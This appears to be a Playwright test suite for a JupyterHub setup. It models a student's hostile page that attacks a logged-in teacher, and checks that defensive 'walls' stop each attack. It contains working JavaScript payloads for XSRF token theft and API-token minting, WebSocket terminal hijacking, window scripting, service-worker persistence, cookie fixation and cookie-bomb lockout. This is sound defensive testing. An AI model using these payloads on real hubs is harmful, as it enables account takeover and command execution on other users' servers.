"""What a student's own program, at her server's address, does to a teacher who opens a link to it.

Maija's server answers what she likes (``hostile.py``). Ada is logged in and her server runs. Each
attack is seen to work with the walls taken down, and to fail with them.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page, WebSocket

from tests.browser.conftest import SHOTS, running
from tests.browser.lair import COURSE, HOSTILE, OPEN, TEACHER, Lair, furnish

ADAS = f"/user/{TEACHER}/{COURSE}-instructor/"
#: Ada's server that takes a WebSocket without `_xsrf`.
ADAS_OPEN = f"/user/{TEACHER}/{OPEN}-instructor/"


@pytest.fixture(scope="module")
def lair(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lair]:
    folder = tmp_path_factory.mktemp("attacks") / "university"
    with running(folder, browser, furnish) as found:
        lair = Lair(folder, found.base, found.passwords, browser, SHOTS / "attacks")
        lair.settle()
        yield lair


@pytest.fixture
def ada(lair: Lair) -> Iterator[BrowserContext]:
    context = lair.teacher()
    yield context
    context.close()


def visit(lair: Lair, ada: BrowserContext, headers: str = "") -> Page | None:
    """Ada follows a link to Maija's page; None when the page that came is not Maija's."""
    page = ada.new_page()
    page.goto(f"{lair.base}{HOSTILE}page{headers}")
    return page if page.title() == "hostile" else None


POLICY = "Cross-Origin-Opener-Policy"

# --- the attacks: each says whether it worked ---------------------------------------------------

FIND_XSRF = """
async () => {
  const answer = await fetch('/hub/home');
  const inPage = (await answer.text()).match(/name="_xsrf" value="([^"]+)"/);
  return inPage && inPage[1];
}
"""
MINT = """
async token => {
  const answer = await fetch('/hub/api/users/ada/tokens', {
    method: 'POST',
    headers: {'X-XSRFToken': token, 'Content-Type': 'application/json'},
    body: JSON.stringify({note: 'lab', scopes: ['access:servers!user=ada']})});
  return answer.status === 201 ? (await answer.json()).token : null;
}
"""


def mint_a_token(lair: Lair, ada: BrowserContext) -> bool:
    """A token of Ada's that opens her servers, by the hub's `_xsrf` from a page of it."""
    page = visit(lair, ada)
    if page is None:
        return False
    xsrf = page.evaluate(FIND_XSRF)
    return bool(xsrf and page.evaluate(MINT, xsrf))


TERMINAL = """
address => new Promise(done => {
  const socket = new WebSocket(address.replace(/^http/, 'ws') + 'terminals/websocket/1');
  let seen = '';
  socket.onopen = () => setTimeout(
    () => socket.send(JSON.stringify(['stdin', 'echo hacked-$((6*7))\\r'])), 500);
  socket.onmessage = event => {
    seen += event.data;
    if (seen.includes('hacked-42')) done(true);
  };
  socket.onerror = socket.onclose = () => done(false);
  setTimeout(() => done(false), 15000);
})
"""
EVENTS = """
address => new Promise(done => {
  const socket = new WebSocket(address.replace(/^http/, 'ws') + 'api/events/subscribe');
  socket.onopen = () => setTimeout(() => done(socket.readyState === 1), 500);
  socket.onerror = socket.onclose = () => done(false);
})
"""


def listen_and_type(lair: Lair, ada: BrowserContext, server: str = ADAS_OPEN) -> bool:
    """Ada's open terminal and the stream of its events, by WebSocket."""
    page = visit(lair, ada)
    if page is None:
        return False
    found = {page.evaluate(script, lair.base + server) for script in (TERMINAL, EVENTS)}
    assert len(found) == 1, "one of the two is open"
    return found == {True}


def open_her_lab(lair: Lair, ada: BrowserContext) -> bool:
    """With one click: a window with Ada's Lab, which Maija's page reads and scripts."""
    page = visit(lair, ada)
    if page is None:
        return False
    page.evaluate(
        "address => document.querySelector('button').onclick = () => window.shown = open(address)",
        lair.base + ADAS + "lab",
    )
    with ada.expect_page() as opened:
        page.click("button")
    opened.value.locator(".lm-MenuBar-itemLabel").first.wait_for()
    try:
        return bool(page.evaluate("/_xsrf=/.test(window.shown.document.cookie)"))
    except Error:
        return False


def open_the_hub(lair: Lair, ada: BrowserContext) -> bool:
    """The same with the hub; a page may ask for the policy that the hub has, to keep hold of it."""
    return any(_open_the_hub(lair, ada, headers) for headers in ("", f"?{POLICY}=same-origin"))


def _open_the_hub(lair: Lair, ada: BrowserContext, headers: str) -> bool:
    page = visit(lair, ada, headers)
    if page is None:
        return False
    page.evaluate(
        "() => document.querySelector('button').onclick = () => window.shown = open('/hub/home')"
    )
    with ada.expect_page() as opened:
        page.click("button")
    opened.value.wait_for_load_state()
    try:
        return bool(page.evaluate("window.shown.document.body.innerText.includes('Ada')"))
    except Error:
        return False


def stay_as_a_worker(lair: Lair, ada: BrowserContext) -> bool:
    """A service worker for the whole origin, which answers every later page."""
    page = visit(lair, ada)
    if page is None:
        return False
    script = f"{HOSTILE}worker.js?Service-Worker-Allowed=/"
    return bool(
        page.evaluate(
            "script => navigator.serviceWorker.register(script, {scope: '/'})"
            ".then(() => true, () => false)",
            script,
        )
    )


def log_her_in_as_another(lair: Lair, ada: BrowserContext) -> bool:
    """Maija's own log-in cookie in Ada's browser: what Ada does next, she does as Maija."""
    visit(lair, ada, f"?Set-Cookie={quote(lair.log_in_cookie)}%3B%20Path%3D/hub/")
    page = ada.new_page()
    page.goto(f"{lair.base}/hub/home")
    return "Ada Lindholm" not in page.inner_text("body")


def lock_her_out(lair: Lair, ada: BrowserContext) -> bool:
    """Thirty cookies of 4 kB: the proxy refuses whatever Ada's browser asks the hub."""
    page = visit(lair, ada)
    if page is not None:
        page.evaluate(
            """async address => {
              for (let i = 0; i < 30; i++) {
                const cookie = `c${i}=${'x'.repeat(4000)}; Path=/hub/; Max-Age=31536000`;
                await fetch(`${address}?Set-Cookie=${encodeURIComponent(cookie)}`);
              }
            }""",
            HOSTILE + "page",
        )
    page = ada.new_page()
    answer = page.goto(f"{lair.base}/hub/home")
    assert answer is not None
    return answer.status >= 400


def log_her_out(lair: Lair, ada: BrowserContext) -> bool:
    """`Clear-Site-Data` takes the cookies of the hub and of all servers."""
    visit(lair, ada, '?Clear-Site-Data="cookies"')
    page = ada.new_page()
    page.goto(f"{lair.base}/hub/home")
    return "/hub/login" in page.url


ATTACKS: list[Callable[[Lair, BrowserContext], bool]] = [
    mint_a_token,
    listen_and_type,
    open_her_lab,
    open_the_hub,
    stay_as_a_worker,
    log_her_in_as_another,
    lock_her_out,
    log_her_out,
]
#: Behind the door: which wall of ``lair.py`` stops an attack when the door is open.
INNER: dict[Callable[[Lair, BrowserContext], bool], str] = {
    mint_a_token: "pages",
    open_the_hub: "pages",
    stay_as_a_worker: "headers",
    log_her_out: "headers",
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_door_stops_them_all(
    lair: Lair, ada: BrowserContext, attack: Callable[[Lair, BrowserContext], bool]
) -> None:
    lair.take_down()
    assert not attack(lair, ada)


@pytest.mark.parametrize("attack", ATTACKS)
def test_without_walls_they_work(
    lair: Lair, ada: BrowserContext, attack: Callable[[Lair, BrowserContext], bool]
) -> None:
    lair.take_down("door", *INNER.values())
    assert attack(lair, ada)


@pytest.mark.parametrize("attack", INNER)
def test_another_wall_stops_it_behind_the_door(
    lair: Lair, ada: BrowserContext, attack: Callable[[Lair, BrowserContext], bool]
) -> None:
    lair.take_down("door")
    assert not attack(lair, ada)


def test_websockets_ask_for_xsrf_behind_the_door(lair: Lair, ada: BrowserContext) -> None:
    lair.take_down("door")
    assert listen_and_type(lair, ada, ADAS_OPEN)
    assert not listen_and_type(lair, ada, ADAS)


class Heard:
    """The WebSockets of a page and what came by them."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.sockets: list[WebSocket] = []
        self.text = ""
        page.on("websocket", self._add)

    def _add(self, socket: WebSocket) -> None:
        self.sockets.append(socket)
        socket.on("framereceived", self._hear)

    def _hear(self, frame: str | bytes) -> None:
        self.text += frame if isinstance(frame, str) else frame.decode(errors="replace")

    def wait_for(self, text: str) -> None:
        for _ in range(150):
            if text in self.text:
                return
            self.page.wait_for_timeout(200)
        raise AssertionError(f"{text} never came: {[s.url for s in self.sockets]}")


def test_jupyters_own_pages_go_on(lair: Lair, ada: BrowserContext) -> None:
    """JupyterLab's kernels, terminals and events, and those of Notebook, bring their `_xsrf`."""
    page = ada.new_page()
    heard = Heard(page)
    page.goto(f"{lair.base}{ADAS}lab")
    card = page.locator(".jp-LauncherCard")
    card.filter(has_text="Terminal").first.click(timeout=60_000)
    heard.wait_for("$")
    page.locator(".jp-Terminal").click()
    page.keyboard.type("echo in-lab-$((6*7))\n")
    heard.wait_for("in-lab-42")
    page.keyboard.press("Control+Shift+l")
    card.filter(has_text="Python 3").first.click()
    cell = page.locator(".jp-NotebookPanel .cm-content").first
    cell.wait_for()
    page.get_by_text("Python 3 (ipykernel) | Idle").wait_for(timeout=60_000)
    cell.click()
    page.keyboard.type("print('in a cell', 6 * 7)")
    page.keyboard.press("Shift+Enter")
    page.locator(".jp-OutputArea-output").filter(has_text="in a cell 42").wait_for()
    kinds = ("/terminals/websocket/", "/channels", "/api/events/subscribe")
    for kind in kinds:
        found = [socket for socket in heard.sockets if kind in socket.url]
        assert found, kind
        assert all("_xsrf=" in socket.url for socket in found)
    classic = ada.new_page()
    heard = Heard(classic)
    classic.goto(f"{lair.base}{ADAS}terminals/1")
    classic.locator(".jp-Terminal").click()
    classic.keyboard.type("echo in-notebook-$((6*7))\n")
    heard.wait_for("in-notebook-42")
